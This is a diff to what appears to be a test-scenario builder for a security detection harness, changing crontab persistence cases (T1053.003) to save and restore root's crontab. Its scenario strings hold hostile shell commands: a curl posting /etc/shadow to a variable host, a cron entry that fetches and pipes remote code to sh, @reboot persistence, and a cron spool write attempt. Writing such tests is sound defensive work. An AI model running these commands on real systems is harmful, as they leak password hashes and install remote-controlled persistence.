@@ -327,14 +327,20 @@ def build(S: Callable, nobody: str) -> tuple:
           'curl -sS -m 5 -o /dev/null --data-binary @/etc/shadow "http://$HOST:443/s"'))
 
     # ==== persistence ============================================================================
-    add(S("pe_crontab_pipe", "crontab -l | add a line | crontab - (T1053.003), removed after",
-          '(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://$HOST/c | sh") | crontab -\n'
-          'crontab -l > /dev/null\ncrontab -r'))
+    # root's own crontab, if any, is saved first and put back after
+    add(S("pe_crontab_pipe", "crontab -l | add a line | crontab - (T1053.003), put back after",
+          'crontab -l > /tmp/.cron-saved 2>/dev/null || true\n'
+          '(cat /tmp/.cron-saved; echo "*/5 * * * * curl -s http://$HOST/c | sh") | crontab -\n'
+          'if [ -s /tmp/.cron-saved ]; then crontab /tmp/.cron-saved; else crontab -r; fi\n'
+          'rm -f /tmp/.cron-saved'))
     add(S("pe_crontab_file_uid1000", "crontab FILE as uid 1000, removed after",
           'echo "@reboot sh $HOME/.cache/x" > /tmp/.cr1000\ncrontab /tmp/.cr1000\ncrontab -r\n'
           'rm -f /tmp/.cr1000', user=1000))
-    add(S("pe_crontab_u_root", "crontab -u root FILE, removed after",
-          'echo "0 * * * * /tmp/.x" > /tmp/.cr\ncrontab -u root /tmp/.cr\ncrontab -u root -r\nrm -f /tmp/.cr'))
+    add(S("pe_crontab_u_root", "crontab -u root FILE, root's own put back after",
+          'crontab -u root -l > /tmp/.cron-saved-u 2>/dev/null || true\n'
+          'echo "0 * * * * /tmp/.x" > /tmp/.cr\ncrontab -u root /tmp/.cr\n'
+          'if [ -s /tmp/.cron-saved-u ]; then crontab -u root /tmp/.cron-saved-u; else crontab -u root -r; fi\n'
+          'rm -f /tmp/.cr /tmp/.cron-saved-u'))
     add(S("pe_cron_spool_python", "python writes /var/spool/cron/crontabs/root as uid 65534 (EACCES)",
           f"{nobody} python3 -c \"open('/var/spool/cron/crontabs/root','a').write('* * * * * id\\\\n')\" "
           "2>/dev/null || echo denied"))
